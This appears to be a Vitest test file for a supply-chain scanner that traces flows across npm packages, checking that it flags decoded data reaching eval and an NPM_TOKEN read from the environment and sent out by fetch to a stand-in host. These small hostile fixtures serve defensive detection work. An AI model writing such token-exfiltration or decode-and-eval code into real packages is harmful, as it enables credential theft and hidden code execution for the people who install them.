// What packages do together that none of them does alone: a release, and what it newly brings.
import { describe, expect, test } from 'vitest'
import { type Member, readTogether } from '../../src/facts/together.ts'

const encode = (text: string) => new TextEncoder().encode(text)

function member(name: string, files: Readonly<Record<string, string>>, manifest: object = {}): Member {
  const all = { 'package.json': JSON.stringify({ name, version: '1.0.0', ...manifest }), ...files }
  const packed = Object.entries(all).map(([path, text]) => ({ path, bytes: encode(text), executable: false }))
  return { name, tarball: { files: packed, oddities: [], unpackedBytes: 0 } }
}

const shown = (members: readonly Member[]) =>
  readTogether(members).flows.map(
    ({ source, subject, sink, file, line, reach }) => `${source} ${subject || '-'} ${sink} ${file}:${line} ${reach}`,
  )

const decoder = member('un-code', {
  'index.js': "module.exports = require('./low.js')",
  'low.js': "exports.open = (text) => Buffer.from(text, 'base64').toString()",
})
const runner = member(
  '@a/run',
  { 'lib/main.mjs': 'export const run = (line) => eval(line)' },
  { exports: './lib/main.mjs' },
)
const sender = member('send-it', { 'index.js': "module.exports = (x) => fetch('https://example.test/' + x)" })

describe('a release and what it brings', () => {
  test.each<[string, string, readonly Member[], readonly string[]]>([
    [
      'a decoder, run by the release',
      "const { open } = require('un-code')\neval(open(globalThis.data))",
      [decoder],
      ['decoded - evaluate index.js:2 import'],
    ],
    [
      'something that runs what the release decodes',
      "import { run } from '@a/run'\nrun(Buffer.from(globalThis.data, 'base64').toString())",
      [runner],
      ['decoded - evaluate index.js:2 import'],
    ],
    [
      'both: the release only hands it on',
      "const { open } = require('un-code')\nrequire('@a/run').run(open(globalThis.data))",
      [decoder, runner],
      ['decoded - evaluate node_modules/@a/run/lib/main.mjs:1 import'],
    ],
    [
      'a secret that the release reads and the other sends',
      "import send from 'send-it'\nsend(process.env.NPM_TOKEN)",
      [sender],
      ['secret NPM_TOKEN network index.js:2 import'],
    ],
    [
      'a file of it by its path',
      "const { open } = require('un-code/low')\neval(open(globalThis.data))",
      [decoder],
      ['decoded - evaluate index.js:2 import'],
    ],
    [
      'nothing that goes together',
      "require('un-code').open(globalThis.data)\nrequire('@a/run')",
      [decoder, runner],
      [],
    ],
    ['a flow that the release has alone', "eval(atob(globalThis.data))\nrequire('un-code')", [decoder], []],
  ])('%s', (_, source, brought, flows) => {
    expect(shown([member('app', { 'index.js': source }), ...brought])).toEqual(flows)
  })

  test('what its command does is not what its import does, and what nothing leads to is nothing', () => {
    const use = "const { open } = require('un-code')\neval(open(globalThis.data))"
    const files = {
      'index.js': '',
      'cli.js': use,
      'old/index.js': use.replace('eval', 'require("child_process").exec'),
    }
    expect(shown([member('app', files, { bin: 'cli.js' }), decoder])).toEqual(['decoded - evaluate cli.js:2 bin'])
  })

  test('the steps say whose file they are in', () => {
    const [flow] = readTogether([
      member('app', { 'index.js': "import send from 'send-it'\nsend(process.env.NPM_TOKEN)" }),
      sender,
    ]).flows
    expect(flow?.steps).toEqual([
      'index.js:2 process.env.NPM_TOKEN',
      'node_modules/send-it/index.js:1 x',
      'node_modules/send-it/index.js:1 fetch(…)',
    ])
  })

  test('what they carry of others is not theirs', () => {
    const carrier = member('app', {
      'node_modules/x/index.js': "eval(require('un-code').open(globalThis.data))",
      'index.js': '',
    })
    expect(shown([carrier, decoder])).toEqual([])
  })
})

describe('hostile', () => {
  test('a file to blame is left out, whichever package it is in', () => {
    const app = member('app', { 'index.js': "eval(require('un-code').open(globalThis.data))" })
    const read: number[] = []
    const watch = { now: () => 0, gaveUp: false, remember: <T>(_: string, __: number, one: () => T) => one() }
    const readWithout = (blamed: readonly number[]) =>
      readTogether([app, decoder], {
        ...watch,
        blamed: blamed.map((index) => ({ index, why: 'timeout' as const })),
        announce: (index) => read.push(index),
      })
    expect(readWithout([])).toMatchObject({ flows: [{ sink: 'evaluate' }], unreadable: [] })
    const all = [...new Set(read)]
    expect(all).toEqual(all.map((_, index) => index))
    const blamed = all.map((index) => readWithout([index])).filter(({ unreadable }) => unreadable.length > 0)
    expect(
      blamed.map(({ flows, unreadable }) => [flows.length, ...unreadable.map(({ file, why }) => `${file} ${why}`)]),
    ).toEqual([
      [0, 'index.js timeout'],
      // Without a tree first, then with one.
      [0, 'node_modules/un-code/index.js timeout'],
      [0, 'node_modules/un-code/index.js timeout'],
      [0, 'node_modules/un-code/low.js timeout'],
    ])
  })

  test('packages that load each other come to an end', () => {
    const ring = Array.from({ length: 8 }, (_, at) =>
      member(`m${at}`, { 'index.js': `const n = require('m${(at + 1) % 8}')\nexports.f = (x) => n.f(n.f(x))` }),
    )
    expect(shown(ring)).toEqual([])
  })
})
